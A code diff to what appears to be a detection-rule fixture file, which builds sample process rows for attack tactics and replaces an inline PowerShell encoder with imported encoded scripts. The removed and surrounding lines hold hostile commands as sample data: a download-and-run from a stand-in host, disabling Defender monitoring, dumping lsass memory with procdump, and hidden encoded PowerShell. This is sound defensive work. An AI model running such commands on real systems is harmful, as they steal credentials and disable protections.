@@ -1,4 +1,5 @@
 import type { Row } from '../profile-data.js';
+import { encodedScripts } from '../vocabulary/powershell.js';
 
 /** Where a program lies on its volume, its name, and what stands behind it in the command line. */
 type Program = readonly [folder: string, program: string, argument: string];
@@ -12,13 +13,6 @@ const WORD = '${pattern:aaaaaaaa}';
 /** Rows of one detection: what is said of it fits each of the programs. */
 const detection = (tactic: string, name: string, severity: number, says: string, programs: readonly Program[]): Row[] =>
   programs.map(([folder, program, argument]) => ({ tactic, name, severity, says, folder, program, argument }));
-
-/** A script as PowerShell takes it behind -EncodedCommand: its UTF-16 in base64. */
-const encoded = (script: string): Program => [
-  POWERSHELL,
-  'powershell.exe',
-  `-NoProfile -WindowStyle Hidden -EncodedCommand ${Buffer.from(script, 'utf16le').toString('base64')}`,
-];
 
 /** What somebody has loaded that is no part of the system. */
 const loaded = (...names: readonly string[]): Program[] =>
@@ -34,9 +28,11 @@ export const detections: readonly Row[] = [
     [TEMP, 'procdump64.exe', `-accepteula -ma lsass.exe ${WORD}.dmp`],
   ]),
   detection('Execution', 'PowerShell', 3, 'A PowerShell script with encoded parts was launched', [
-    encoded('Get-Process | Sort-Object CPU'),
-    encoded("Invoke-WebRequest 'http://updates.example.net/a.ps1' | Invoke-Expression"),
-    encoded('Set-MpPreference -DisableRealtimeMonitoring 1'),
+    ...encodedScripts.map((script): Program => [
+      POWERSHELL,
+      'powershell.exe',
+      `-NoProfile -WindowStyle Hidden -EncodedCommand ${script}`,
+    ]),
   ]),
   detection('Execution', 'Command-Line Interface', 2, 'An unusual child of an office program', [
     [SYSTEM, 'cmd.exe', '/c whoami /all'],
